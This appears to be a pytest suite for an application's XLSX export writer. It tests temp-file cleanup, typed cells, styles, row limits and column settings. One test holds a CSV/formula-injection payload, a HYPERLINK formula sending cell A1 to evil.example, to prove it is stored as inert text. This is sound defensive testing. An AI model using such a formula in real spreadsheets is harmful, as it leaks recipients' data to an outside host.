"""The one XLSX writer: typed, never-a-formula cells, constant memory, no file left behind."""

from __future__ import annotations

import datetime as dt
import enum
import io
import tempfile
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.services.exports.writers import xlsx_file
from app.services.workbooks import BOLD, MAX_ROWS, CellStyle, Styled, XlsxSheet, xlsx_book

FORMATS = ("dd/mm/yyyy", "dd/mm/yyyy hh:mm")


class Colour(enum.Enum):
    red = "rouge"


@pytest.fixture
def scratch(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return tmp_path


def leftovers(folder):
    return sorted(path.name for path in folder.iterdir() if path.name != "out.xlsx")


def test_a_failed_block_leaves_no_temporary_file(scratch):
    with pytest.raises(RuntimeError), xlsx_book(io.BytesIO(), FORMATS) as book:
        sheet = book.add_sheet("S")
        sheet.append(["a", 1])
        sheet.append(["b", 2])  # the first row is now on disk: constant memory
        assert leftovers(scratch), "rows no longer stream to a temporary file?"
        raise RuntimeError("the rows broke")
    assert leftovers(scratch) == []


def test_a_saved_workbook_leaves_no_temporary_file(scratch):
    with xlsx_book(scratch / "out.xlsx", FORMATS) as book:
        book.add_sheet("S").append(["a", 1])
    assert leftovers(scratch) == []
    assert (scratch / "out.xlsx").stat().st_size > 0


def test_an_export_whose_rows_fail_leaves_no_temporary_file(scratch):
    def rows():
        yield ["a", 1]
        yield ["b", 2]
        raise ConnectionError("the database went away")

    with pytest.raises(ConnectionError):
        xlsx_file(["Name", "Count"], rows(), title="Clients")
    assert leftovers(scratch) == []


def written(rows, **styles) -> tuple[bytes, str]:
    buffer = io.BytesIO()
    with xlsx_book(buffer, FORMATS) as book:
        sheet = book.add_sheet("S")
        for row in rows:
            sheet.append(row)
    data = buffer.getvalue()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    return data, xml


def test_cells_keep_their_types_and_text_is_never_a_formula():
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    data, xml = written(
        [
            [hostile, "+1+1", "@SUM(A1:A2)", "http://example.org", "0042", "a\x00\x07b"],
            [Decimal("420.50"), 3, 2.5, True, Colour.red, None],
            [dt.date(2026, 3, 1), dt.datetime(2026, 3, 1, 14, 30)],
        ]
    )
    assert "<f>" not in xml and "<hyperlink" not in xml
    sheet = load_workbook(io.BytesIO(data)).active
    assert [cell.value for cell in sheet[1]] == [
        hostile,
        "+1+1",
        "@SUM(A1:A2)",
        "http://example.org",
        "0042",
        "ab",  # XML forbids control characters: dropped, not escaped nor fatal
    ]
    assert all(cell.data_type == "s" for cell in sheet[1])
    assert [cell.value for cell in sheet[2]] == [420.5, 3, 2.5, True, "rouge", None]
    assert sheet["A2"].data_type == "n" and sheet["D2"].data_type == "b"
    assert sheet["A3"].value == dt.datetime(2026, 3, 1) and sheet["A3"].is_date
    assert sheet["A3"].number_format == "dd/mm/yyyy"
    assert sheet["B3"].value == dt.datetime(2026, 3, 1, 14, 30)
    assert sheet["B3"].number_format == "dd/mm/yyyy hh:mm"


def test_styled_cells_carry_their_format_and_font():
    money = CellStyle('#,##0.00\\ "€"')
    data, _xml = written(
        [
            [Styled("Total", BOLD), Styled(Decimal("1234.5"), money), Styled(None, BOLD)],
            [Styled(dt.date(2026, 1, 2), CellStyle("yyyy-mm-dd", bold=True))],
            [Styled("note", CellStyle(italic=True, size=9))],
        ]
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A1"].font.b and sheet["A1"].value == "Total"
    assert sheet["B1"].value == 1234.5 and sheet["B1"].number_format == '#,##0.00\\ "€"'
    assert sheet["C1"].font.b and sheet["C1"].value is None
    assert sheet["A2"].number_format == "yyyy-mm-dd" and sheet["A2"].font.b
    assert sheet["A3"].font.i and sheet["A3"].font.sz == 9


def test_a_sheet_refuses_rows_beyond_excels_limit():
    with xlsx_book(io.BytesIO(), FORMATS) as book:
        sheet: XlsxSheet = book.add_sheet("S")
        sheet.rows_written = MAX_ROWS - 1
        sheet.append(["last"])
        with pytest.raises(ValueError, match="at most"):
            sheet.append(["one too many"])


def test_column_widths_and_frozen_header():
    buffer = io.BytesIO()
    with xlsx_book(buffer, FORMATS) as book:
        sheet = book.add_sheet("S")
        sheet.column_widths([20, None, 9])
        sheet.freeze_rows(1)
        sheet.append([Styled("A", BOLD), Styled("B", BOLD), Styled("C", BOLD)])
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["B"].width
    assert sheet.column_dimensions["C"].width < 12


class Kind(str, enum.Enum):  # noqa: UP042 (str() of this mixin is "Kind.car")
    car = "auto"


def test_column_styles_apply_to_every_cell_of_the_column_but_styled_ones():
    money = CellStyle('#,##0.00\\ "€"')
    buffer = io.BytesIO()
    with xlsx_book(buffer, FORMATS) as book:
        sheet = book.add_sheet("S")
        sheet.append([Styled("Prime", BOLD), "Branche"])
        sheet.column_styles({0: money})
        sheet.append([Decimal("10.5"), Kind.car])
        sheet.append([Styled(Decimal("2"), BOLD), None])
        sheet.append([None, "x"])
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert sheet["A1"].number_format == "General" and sheet["A1"].font.b
    assert sheet["A2"].value == 10.5 and sheet["A2"].number_format == money.number_format
    assert sheet["B2"].value == "auto"
    assert sheet["A3"].font.b and sheet["A3"].number_format == "General"
